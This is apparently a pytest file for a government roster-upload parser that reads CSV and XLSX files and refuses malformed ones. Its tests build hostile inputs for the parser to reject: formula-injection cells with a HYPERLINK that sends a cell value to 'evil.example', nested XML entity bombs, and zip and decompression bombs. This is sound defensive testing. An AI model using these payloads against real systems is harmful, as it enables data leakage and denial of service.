"""Reading roster files: CSV with or without a byte-order mark, other delimiters,
XLSX; and each malformed file refused with a clear message (tests/.../test_upload
shows that nothing is kept then)."""

import datetime
import io
import time
import tracemalloc
import zipfile

import openpyxl.xml
import pytest
from django.utils import translation
from openpyxl import Workbook
from openpyxl.worksheet.formula import ArrayFormula, DataTableFormula

from tests.verification.rosters.helpers import csv_bytes, person, xlsx_bytes
from verification.rosters import checks
from verification.rosters.parsing import (
    CSV,
    HEADERS,
    MAX_BLANK_LINES,
    XLSX,
    RosterFileError,
    detect_format,
    read_roster,
    utf8_bom_check,
)


def rows_of(content, file_format=CSV):
    return list(read_roster(io.BytesIO(content), file_format=file_format))


@pytest.mark.parametrize("bom", [True, False])
def test_csv_with_or_without_a_byte_order_mark(bom):
    rows = rows_of(csv_bytes([person(1), person(2)], bom=bom))
    assert [line for line, _cells in rows] == [2, 3]
    assert rows[0][1]["email"] == "person1@pune.mahaagri.gov.in"
    assert rows[0][1]["name"] == "Person 1"
    assert rows[1][1]["superannuation"] == "2041-03-31"


@pytest.mark.parametrize("delimiter", [";", "\t"])
def test_csv_saved_with_another_delimiter(delimiter):
    rows = rows_of(csv_bytes([person(1)], delimiter=delimiter))
    assert rows[0][1]["employee_code"] == "E00001"


def test_headers_in_any_case_and_order_extra_columns_ignored_blank_lines_keep_their_numbers():
    headers = ["EMPLOYEE CODE", "official_email", "name", "Remarks", "mobile", "designation", "office"]
    content = csv_bytes([["E1", "a@mha.gov.in", "A", "x", "9876543210", "Clerk", "Desk"], [""] * 7,
                         ["E2", "b@mha.gov.in", "B", "", "9876543211", "Clerk", "Desk"]], headers=headers)
    rows = rows_of(content)
    assert [(line, cells["email"]) for line, cells in rows] == [(2, "a@mha.gov.in"), (4, "b@mha.gov.in")]
    assert "superannuation" not in rows[0][1]


def test_xlsx_values_dates_and_numbers():
    content = xlsx_bytes([person(1, **{"Mobile": 9876500001, "Date of superannuation": datetime.datetime(2041, 3, 31),
                                       "Employee code": 1042})])
    assert detect_format("roster.xlsx", content[:8]) == XLSX
    (line, cells), = rows_of(content, XLSX)
    assert line == 2
    assert cells["mobile"] == "9876500001"
    assert cells["employee_code"] == "1042"
    assert cells["superannuation"] == datetime.date(2041, 3, 31)


def _workbook(*sheets):
    """A workbook of ``sheets``: (title, rows) each."""
    workbook = Workbook(write_only=True)
    for title, rows in sheets:
        sheet = workbook.create_sheet(title)
        for row in rows:
            sheet.append(row)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


ROSTER_ROWS = [HEADERS, [person(1)[header] for header in HEADERS]]


def test_a_workbook_whose_roster_is_not_its_first_sheet_is_read_from_the_sheet_that_names_the_columns():
    """An office copies the template's sheet into its staff workbook, after sheets of its
    own: only the first sheet was read, refused as "The first row must name the columns of
    the template", which the person, looking at the roster's sheet, saw it did."""
    content = _workbook(("Staff strength", [["Sanctioned posts", 42]]), ("Notes", []),
                        ("Roster", [[], *ROSTER_ROWS]), ("Roster (old)", ROSTER_ROWS))
    (line, cells), = rows_of(content, XLSX)
    assert line == 3 and cells["email"] == "person1@pune.mahaagri.gov.in"


def test_a_workbook_with_no_sheet_naming_the_columns_is_refused_naming_the_sheet_read():
    content = _workbook(("Notes", []), ("Staff strength", [["Name", "Official email"], ["A", "a@mha.gov.in"]]),
                        ("Posts", [["Sanctioned posts", 42]]))
    with pytest.raises(RosterFileError) as refused:
        rows_of(content, XLSX)
    assert str(refused.value) == (
        "No sheet of this workbook has the template's columns in its first row. Missing on the sheet “Staff "
        "strength”: “Mobile”, “Designation”, “Employee code”, “Office”. Download the template and copy your rows "
        "into it.")
    with translation.override("mr"), pytest.raises(RosterFileError, match="शीट “Staff strength” मध्ये नाहीत"):
        rows_of(content, XLSX)
    with pytest.raises(RosterFileError, match="The file is empty"):
        rows_of(_workbook(("Sheet1", []), ("Sheet2", [[None, " "]])), XLSX)


def test_a_formula_in_an_xlsx_cell_is_read_as_the_formula_not_its_value():
    content = xlsx_bytes([person(1, Name='=HYPERLINK("http://evil.example","click")')])
    (_line, cells), = rows_of(content, XLSX)
    assert cells["name"].startswith("=HYPERLINK(")


def test_an_array_or_data_table_formula_in_an_xlsx_cell_is_read_as_a_formula():
    """openpyxl gives such cells as objects: they are read as the formula they hold (for
    the formula check to refuse), never as the object's name."""
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(HEADERS)
    sheet.append([person(1)[header] for header in HEADERS])
    sheet["A2"] = ArrayFormula("A2", '=HYPERLINK("http://evil.example/?"&B2,"Click")')
    sheet["D2"] = DataTableFormula(ref="D2", r1="A1", r2="B1")
    out = io.BytesIO()
    workbook.save(out)
    (_line, cells), = rows_of(out.getvalue(), XLSX)
    assert cells["name"] == '=HYPERLINK("http://evil.example/?"&B2,"Click")'
    assert cells["designation"] == "=TABLE(A1,B1)"
    assert checks._check_cells(2, cells).columns["formula"] == ["name", "designation"]


def test_blank_lines_before_the_header_are_read_past():
    """A file saved with an empty first line (or a few) is read from its header, its lines
    numbered as the spreadsheet numbers them, with its own delimiter."""
    rows = rows_of(b"\r\n \r\n" + csv_bytes([person(1)], bom=False, delimiter=";"))
    assert [(line, cells["email"]) for line, cells in rows] == [(4, "person1@pune.mahaagri.gov.in")]
    rows = rows_of("\ufeff\r\n".encode() + csv_bytes([person(1)], bom=False))
    assert [line for line, _cells in rows] == [3]
    with pytest.raises(RosterFileError, match="more than 10,000 empty rows"):
        rows_of(b"\n" * (MAX_BLANK_LINES + 1) + csv_bytes([person(1)], bom=False))
    with pytest.raises(RosterFileError, match="The file is empty"):
        rows_of(b"\r\n \r\n\r\n")


@pytest.mark.parametrize(("content", "message"), [
    (b"Name,Official email\nA,a@mha.gov.in\n", "Missing: “Mobile”, “Designation”, “Employee code”, “Office”"),
    (b"", "The file is empty"),
    (b"\n\n", "The file is empty"),
    (csv_bytes([]), "no people below it"),
    (csv_bytes([person(1, Name="Jos\u00e9")], bom=False, encoding="latin-1"), "not UTF-8"),
    (b"Name,Name,Official email\n", "appears twice"),
])
def test_malformed_csv_files_are_refused_with_a_clear_message(content, message):
    with pytest.raises(RosterFileError, match=message):
        rows_of(content)


def test_utf16_is_refused_by_its_mark():
    with pytest.raises(RosterFileError, match="UTF-16"):
        utf8_bom_check(csv_bytes([person(1)], bom=True, encoding="utf-16")[:8])


def test_a_broken_quote_is_read_to_the_end_of_the_file_not_beyond():
    rows = rows_of(csv_bytes([person(1)]) + b'"Unclosed,a@mha.gov.in\nB,b@mha.gov.in\n')
    assert [line for line, _cells in rows] == [2, 3]


def test_fake_and_damaged_workbooks_are_refused():
    with pytest.raises(RosterFileError, match="not an Excel workbook"):
        detect_format("roster.xlsx", b"Name,Off")
    with pytest.raises(RosterFileError, match="old Excel file"):
        detect_format("roster.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1")
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as z:
        z.writestr("hello.txt", "not a workbook")
    with pytest.raises(RosterFileError, match="not an Excel workbook"):
        rows_of(archive.getvalue(), XLSX)
    with pytest.raises(RosterFileError, match="not an Excel workbook"):
        rows_of(b"PK\x03\x04" + b"\x00" * 100, XLSX)


def test_more_rows_than_allowed_are_refused(settings):
    settings.ROSTER_MAX_ROWS = 3
    assert len(rows_of(csv_bytes([person(i) for i in range(3)]))) == 3
    with pytest.raises(RosterFileError, match="more than 3 rows"):
        rows_of(csv_bytes([person(i) for i in range(4)]))
    with pytest.raises(RosterFileError, match="more than 3 rows"):
        rows_of(xlsx_bytes([person(i) for i in range(4)]), XLSX)


def rewritten_xlsx(content, edit):
    """The workbook with each part ``edit(name, bytes)`` returns."""
    source, out = zipfile.ZipFile(io.BytesIO(content)), io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for name in source.namelist():
            target.writestr(name, edit(name, source.read(name)))
    return out.getvalue()


def with_shared_strings(name, body):
    """For ``rewritten_xlsx``: the workbook declares a shared strings part (which the test
    then adds as ``xl/sharedStrings.xml``)."""
    if name == "[Content_Types].xml":
        return body.replace(b"</Types>", b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
                            b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>')
    if name == "xl/_rels/workbook.xml.rels":
        return body.replace(b"</Relationships>", b'<Relationship Id="rIdS" Type="http://schemas.openxmlformats.'
                            b'org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>'
                            b"</Relationships>")
    return body


def test_empty_rows_are_read_past_up_to_a_budget_then_refused():
    """Each empty row costs reading it: a file of millions (a few bytes of CSV each, or one
    far row number in a workbook, which the reader walks up to) is refused once the budget
    is spent, not read for minutes."""
    some = csv_bytes([person(1)]) + b"\r\n" * 5000 + csv_bytes([person(2)]).split(b"\r\n", 1)[1]
    assert [line for line, _cells in rows_of(some)] == [2, 5003]
    too_many = csv_bytes([person(1)]) + b"\n" * (MAX_BLANK_LINES + 1) + b"x,y\n"
    with pytest.raises(RosterFileError, match="more than 10,000 empty rows"):
        rows_of(too_many)

    def far_row(name, body):
        if not name.startswith("xl/worksheets/"):
            return body
        return body.replace(b"</sheetData>", b'<row r="1000000000"><c t="inlineStr"><is><t>x</t></is></c></row>'
                                             b"</sheetData>")

    with pytest.raises(RosterFileError, match="more than 10,000 empty rows"):
        rows_of(rewritten_xlsx(xlsx_bytes([person(1)]), far_row), XLSX)


def test_workbook_parts_read_whole_are_bounded(settings):
    """openpyxl reads the styles as one XML tree and every shared string into a list: a
    small file that unpacks to a large part of those is refused before they are read."""
    def big_styles(name, body):
        return body.replace(b"</styleSheet>", b"<x/>" * 1_100_000 + b"</styleSheet>") if name == "xl/styles.xml" else body

    with pytest.raises(RosterFileError, match="holds more than a roster needs"):
        rows_of(rewritten_xlsx(xlsx_bytes([person(1)]), big_styles), XLSX)

    settings.ROSTER_MAX_ROWS = 100  # at most 101 rows of 7 columns' strings, and 1,000 more

    def strings(count, item=b"<si><t>ab</t></si>", prefix=b""):
        buffer = io.BytesIO(rewritten_xlsx(xlsx_bytes([person(1)]), with_shared_strings))
        with zipfile.ZipFile(buffer, "a") as archive:
            namespace = b"xmlns" + (b":" + prefix[:-1] if prefix else b"")
            archive.writestr("xl/sharedStrings.xml", b"<" + prefix + b"sst " + namespace + b'="http://schemas.'
                             b'openxmlformats.org/spreadsheetml/2006/main">' + item * count + b"</" + prefix + b"sst>")
        return buffer.getvalue()

    assert [cells["name"] for _line, cells in rows_of(strings(1707), XLSX)] == ["Person 1"]
    with pytest.raises(RosterFileError, match="holds more text than a roster of 100 rows"):
        rows_of(strings(1708), XLSX)
    # Empty strings, and strings of a prefixed namespace, are strings to openpyxl too.
    for item, prefix in ((b"<si/>", b""), (b"<x:si><x:t>ab</x:t></x:si>", b"x:")):
        assert [cells["name"] for _line, cells in rows_of(strings(1707, item, prefix), XLSX)] == ["Person 1"]
        with pytest.raises(RosterFileError, match="holds more text than a roster of 100 rows"):
            rows_of(strings(1708, item, prefix), XLSX)


def test_a_cell_longer_than_any_column_is_refused_in_the_portals_words():
    content = csv_bytes([person(1)]) + b'"' + b"x" * 200_000 + b'",a@mha.gov.in\n'
    with pytest.raises(RosterFileError, match="A cell of the file is longer than 131,072 characters") as refused:
        rows_of(content)
    assert "field limit" not in str(refused.value)  # not Python's own words


def peak_mb(call):
    """The peak of Python's allocations while ``call()`` runs, in MB."""
    tracemalloc.start()
    try:
        call()
    finally:
        _now, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
    return peak / 1024 / 1024


def test_a_workbook_row_or_sheet_of_more_elements_than_a_roster_is_refused_before_it_is_read(settings):
    """openpyxl builds a whole row (every cell) before the columns past 50 are dropped, and
    keeps the elements outside rows until the sheet ends: a few KB packed of empty cells
    would cost GBs. The parts are counted first, in constant memory."""
    def sheet(extra):
        def edit(name, body):
            return body.replace(b"</sheetData>", extra + b"</sheetData>") if name.startswith("xl/worksheets/") else body
        return rewritten_xlsx(xlsx_bytes([person(1)]), edit)

    wide = sheet(b'<row r="3">' + b"<c/>" * 1_000_000 + b"</row>")
    assert len(wide) < 20_000

    def refused(content, message):
        with pytest.raises(RosterFileError, match=message):
            rows_of(content, XLSX)

    assert peak_mb(lambda: refused(wide, "Row 3 of the workbook holds more than 16,384 cells")) < 32
    # Elements between rows, and rows numbered again (which openpyxl skips, keeping them).
    loose, again = sheet(b"<x/>" * 1_000_000), sheet(b'<row r="2"/>' * 1_000_000)
    assert peak_mb(lambda: refused(loose, "holds more than a roster of 100,000 rows needs")) < 32
    assert peak_mb(lambda: refused(again, "more than 100,000 rows")) < 32
    settings.ROSTER_MAX_ROWS = 10
    refused(sheet(b'<row r="2"><c/></row>' * 12_000), "more than 10 rows")
    refused(sheet(b"".join(b'<row r="%d">' % i + b"<c/>" * 60_000 + b"</row>" for i in (3, 4))),
            "holds more than a roster of 10 rows needs")
    # Columns past the 50th of an honest row are still read past.
    settings.ROSTER_MAX_ROWS = 100_000
    cells = b'<c t="inlineStr"><is><t>x</t></is></c>' * 200
    widened = rewritten_xlsx(xlsx_bytes([person(1)]), lambda name, body: body.replace(b"</row>", cells + b"</row>")
                             if name.startswith("xl/worksheets/") else body)
    assert [cells["email"] for _line, cells in rows_of(widened, XLSX)] == ["person1@pune.mahaagri.gov.in"]


@pytest.mark.parametrize("file_format", [CSV, XLSX])
def test_a_file_still_being_read_at_its_deadline_is_refused(file_format):
    """The clock is looked at as the file is read (each row, each part of a workbook read
    before openpyxl): past the deadline the file is refused, however much of it is left."""
    content = xlsx_bytes([person(1)]) if file_format == XLSX else csv_bytes([person(1)])
    assert len(list(read_roster(io.BytesIO(content), file_format=file_format, deadline=time.monotonic() + 60))) == 1
    with pytest.raises(RosterFileError, match="took longer than .* seconds to read and check: split it into smaller"):
        list(read_roster(io.BytesIO(content), file_format=file_format, deadline=time.monotonic() - 1))


def test_a_workbook_part_declaring_xml_entities_is_refused():
    """expat expands the entities a part declares: a few hundred bytes make thousands of
    shared strings, or megabytes of text, that no count of the file's bytes sees."""
    si = b"&#60;si>&#60;t>xy&#60;/t>&#60;/si>"
    dtd = (b"<!DOCTYPE sst [<!ENTITY e0 \"" + si * 10 + b"\">"
           + b"".join(b'<!ENTITY e%d "' % i + b"&e%d;" % (i - 1) * 10 + b'">' for i in range(1, 4)) + b"]>")
    sst = b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">&e3;</sst>'
    text = (b'<!DOCTYPE styleSheet [<!ENTITY t0 "xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx">'
            + b"".join(b'<!ENTITY t%d "' % i + b"&t%d;" % (i - 1) * 10 + b'">' for i in range(1, 5)) + b"]>")

    def declared(name, body):
        if name == "xl/styles.xml":
            return text + body.replace(b"</styleSheet>", b"<x>&t4;</x></styleSheet>")
        return body

    with_strings = io.BytesIO(rewritten_xlsx(xlsx_bytes([person(1)]), with_shared_strings))
    with zipfile.ZipFile(with_strings, "a") as archive:
        archive.writestr("xl/sharedStrings.xml", b'<?xml version="1.0" encoding="UTF-8"?>' + dtd + sst)
    for content in (rewritten_xlsx(xlsx_bytes([person(1)]), declared), with_strings.getvalue()):
        with pytest.raises(RosterFileError, match=r"XML declarations \(DOCTYPE, ENTITY\) that spreadsheets do not write"):
            rows_of(content, XLSX)
    # And openpyxl reads with defusedxml, which refuses entities itself.
    assert openpyxl.xml.DEFUSEDXML


def test_a_csv_row_longer_than_any_roster_row_is_refused_before_it_is_split():
    """The csv module builds a whole row, a string a cell, before the columns past 50 are
    dropped: a line of 10 MB ("xy,xy,...", 3.5 million cells) cost 180 MB. A row (its
    lines, when quoted cells hold line breaks) is bounded before it is split."""
    wide = csv_bytes([person(1)]) + b"xy," * 3_495_000 + b"\n"

    def refused(content, line):
        with pytest.raises(RosterFileError, match=f"Line {line} of the file is longer than 262,144 characters"):
            rows_of(content)

    assert peak_mb(lambda: refused(wide, 3)) < 16
    refused(csv_bytes([person(1)]) + b'"\n",' * 100_000 + b"\n", 3)  # many short lines, one row
    refused(b"Name," * 60_000 + b"\n", 1)
    # A row of quoted line breaks just under the bound is read, and the rows after it too.
    long_row = csv_bytes([person(1, Office="Desk\n" * 24_000, Designation="Clerk\n" * 20_000)])
    assert [line for line, _cells in rows_of(long_row + csv_bytes([person(2)]).split(b"\r\n", 1)[1])] == [2, 3]


class CountedReads(io.BytesIO):
    """A file that counts the bytes read from it."""

    read_bytes = 0

    def read(self, size=-1):
        data = super().read(size)
        self.read_bytes += len(data)
        return data


def test_a_workbook_of_thousands_of_parts_is_refused_before_its_directory_is_read():
    """zipfile reads the whole central directory, an object for each entry, and openpyxl
    reads it again: 100,000 empty entries in 9 MB cost seconds and 160 MB before a byte
    of a sheet was read. The directory's size is read from its end record first."""
    buffer = io.BytesIO(xlsx_bytes([person(1)]))
    with zipfile.ZipFile(buffer, "a") as archive:
        for number in range(5_000):
            archive.writestr(f"x/{number}", b"")
    content = CountedReads(buffer.getvalue())
    with pytest.raises(RosterFileError, match="This workbook holds more than 2,000 parts"):
        list(read_roster(content, file_format=XLSX))
    assert content.read_bytes < 70_000 < len(content.getvalue()) // 4
    # An office's workbook of many sheets is read.
    workbook = Workbook(write_only=True)
    roster = workbook.create_sheet("Roster")
    for row in ([*HEADERS], [person(1)[header] for header in HEADERS]):
        roster.append(row)
    for number in range(300):
        workbook.create_sheet(f"Notes {number}").append(["x"])
    out = io.BytesIO()
    workbook.save(out)
    assert [cells["name"] for _line, cells in rows_of(out.getvalue(), XLSX)] == ["Person 1"]


def test_a_workbook_whose_sheets_share_one_part_is_refused_before_it_is_read_over_and_over():
    """Sheets are listed in the workbook and point at their parts through its
    relationships: hundreds of sheets may point at one part of thousands of rows, each
    read whole by openpyxl when it opens the workbook (for the sheet's size) and again
    for its rows, a few KB costing minutes. The bytes read of the file are bounded."""
    count = 300
    rows = b"".join(b'<row r="%d"/>' % i for i in range(1, 5_000)) + b'<row r="5000"><c t="inlineStr"><is><t>x</t></is></c></row>'
    part = (b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>' + rows
            + b"</sheetData></worksheet>")

    def shared(name, body):
        if name == "xl/workbook.xml":
            return body.replace(b"<sheets>", b"<sheets>" + b"".join(
                b'<sheet name="Notes %d" sheetId="%d" r:id="rIdN%d"/>' % (i, 100 + i, i) for i in range(count)))
        if name == "xl/_rels/workbook.xml.rels":
            return body.replace(b"</Relationships>", b"".join(
                b'<Relationship Id="rIdN%d" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
                b'worksheet" Target="/xl/worksheets/notes.xml"/>' % i for i in range(count)) + b"</Relationships>")
        return body

    buffer = io.BytesIO(rewritten_xlsx(xlsx_bytes([person(1)]), shared))
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/notes.xml", part)
    content = CountedReads(buffer.getvalue())
    with pytest.raises(RosterFileError, match="This workbook makes its sheets be read over and over"):
        list(read_roster(content, file_format=XLSX, deadline=time.monotonic() + 60))
    assert content.read_bytes < 6 * len(content.getvalue()) + 512 * 1024


def test_a_workbook_of_text_longer_than_a_rosters_is_refused_before_it_is_read():
    """openpyxl builds a whole row, the text of every cell, before the columns past 50 are
    dropped, and keeps the text outside rows until the sheet ends: a cell of 8 MB packs to
    a few KB. The text of a row, and outside rows, is counted first, in constant memory."""
    def sheet(extra, before=b"</sheetData>"):
        def edit(name, body):
            return body.replace(before, extra + before) if name.startswith("xl/worksheets/") else body
        return rewritten_xlsx(xlsx_bytes([person(1)]), edit)

    def refused(content, message):
        with pytest.raises(RosterFileError, match=message):
            rows_of(content, XLSX)

    long_cell = sheet(b'<row r="3"><c r="BZ3" t="inlineStr"><is><t>' + b"x" * 8_000_000 + b"</t></is></c></row>")
    assert len(long_cell) < 100_000
    assert peak_mb(lambda: refused(long_cell, "Row 3 of the workbook holds more than 1,048,576 characters")) < 16
    outside = sheet(b"<x>" + b" " * 16_000_000 + b"</x>")
    assert peak_mb(lambda: refused(outside, "holds more text than a roster of 100,000 rows")) < 16
    strings = io.BytesIO(rewritten_xlsx(xlsx_bytes([person(1)]), with_shared_strings))
    with zipfile.ZipFile(strings, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/sharedStrings.xml", b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/'
                         b'main"><si><t>' + b"y" * 8_000_000 + b"</t></si></sst>")
    assert peak_mb(lambda: refused(strings.getvalue(), "holds more text than a roster of 100,000 rows")) < 16
    # A row of long cells past the 50th column, and pretty-printed XML, are read.
    honest = sheet(b'<row r="3"><c r="BZ3" t="inlineStr"><is><t>' + b"x" * 32_767 + b"</t></is></c>\n  </row>\n"
                   + b"  \n" * 100_000)
    assert [cells["name"] for _line, cells in rows_of(honest, XLSX)] == ["Person 1"]


def test_a_workbook_of_more_sheets_than_an_office_keeps_is_refused_before_openpyxl_opens_it():
    """openpyxl makes an object of each sheet the workbook lists, and reads each one's part
    (for its size) as it opens the workbook: 20,000 sheets listed in 200 KB took 20 seconds,
    all of them pointing at one small part. The sheets listed are counted first."""
    count = 1_001

    def many(name, body):
        if name == "xl/workbook.xml":
            return body.replace(b"<sheets>", b"<sheets>" + b"".join(
                b'<sheet name="Notes %d" sheetId="%d" r:id="rId1"/>' % (i, 100 + i) for i in range(count)))
        return body

    content = CountedReads(rewritten_xlsx(xlsx_bytes([person(1)]), many))
    with pytest.raises(RosterFileError, match="This workbook has more than 1,000 sheets"):
        list(read_roster(content, file_format=XLSX))
    assert content.read_bytes < 3 * len(content.getvalue())
